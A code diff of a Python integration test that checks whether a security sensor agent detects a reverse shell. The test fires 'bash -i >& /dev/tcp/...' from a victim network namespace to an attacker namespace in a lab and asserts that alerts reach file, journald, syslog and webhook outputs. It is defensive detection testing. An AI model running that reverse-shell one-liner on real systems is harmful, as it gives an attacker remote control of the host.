@@ -9,27 +9,15 @@ import signal
 import subprocess
 import sys
 import time
-from collections.abc import Callable
 from pathlib import Path
 
-import pytest
-
+from tests.helpers.polling import wait_until
 from tests.unit.receivers import HttpsReceiver, JournalReceiver, SyslogReceiver, make_certificate, short_tmpdir
 from tests.unit.test_ocsf import errors as ocsf_errors
 
-pytestmark = pytest.mark.live
-
-
-def wait_for(check: Callable[[], bool], timeout: float) -> bool:
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        if check():
-            return True
-        time.sleep(0.1)
-    return False
-
 
 def test_run_sends_a_reverse_shell_to_every_output(sensorlab, netlab, tmp_path: Path) -> None:
+    port = netlab.port()
     cert, key = make_certificate(tmp_path)
     with short_tmpdir() as sockdir:
         journal = JournalReceiver(sockdir / "journal.sock")
@@ -60,13 +48,14 @@ format = "ocsf"
                 agent = subprocess.Popen([sys.executable, "-m", "agent", "run", "--config", str(config)], stderr=err,
                                          stdout=subprocess.DEVNULL)
             try:
-                assert wait_for(lambda: '"sensor_ready"' in log.read_text(), 60), log.read_text()
-                listener = netlab.listen_tcp(netlab.attacker_ns, 43998, payload=b"echo cw-$((6*7))\nexit\n",
+                assert wait_until(lambda: '"sensor_ready"' in log.read_text(), timeout=60), log.read_text()
+                listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n",
                                              duration=10)
                 netlab.run(netlab.victim_ns,
-                           ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/43998 0>&1; exit 0"], timeout=15)
+                           ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"], timeout=15)
                 assert b"cw-42" in listener.wait(timeout=15)
-                assert wait_for(lambda: bool(journal.items and syslog.items and webhook.items), 20), log.read_text()
+                assert wait_until(lambda: bool(journal.items and syslog.items and webhook.items), timeout=20), \
+                    log.read_text()
                 time.sleep(1)
             finally:
                 agent.send_signal(signal.SIGTERM)
@@ -78,7 +67,7 @@ format = "ocsf"
     ready = next(json.loads(line) for line in log.read_text().splitlines() if '"sensor_ready"' in line)
     assert ready["alerts"] == [str(alerts), f"journald://{journal.path}", f"syslog+tcp://{syslog.address}", webhook.url]
     ours = [json.loads(line) for line in alerts.read_text().splitlines()]
-    ours = [a for a in ours if a.get("destination", {}).get("port") == 43998]
+    ours = [a for a in ours if a.get("destination", {}).get("port") == port]
     assert ours, "the reverse shell's alert in the file"
     ids = [a["event"]["id"] for a in ours]
     journal_ids = [e["CHAINWATCH_ALERT_ID"].decode() for e in journal.items]
@@ -90,5 +79,5 @@ format = "ocsf"
     assert [d["finding_info"]["uid"] for d in ours_ocsf] == ids
     for doc in ours_ocsf:
         assert ocsf_errors(doc) == []
-        assert {"ip": netlab.attacker_ip4, "port": 43998} in [e.get("dst_endpoint") for e in doc["evidences"]]
+        assert {"ip": netlab.attacker_ip4, "port": port} in [e.get("dst_endpoint") for e in doc["evidences"]]
     assert journal.errors == syslog.errors == webhook.errors == []
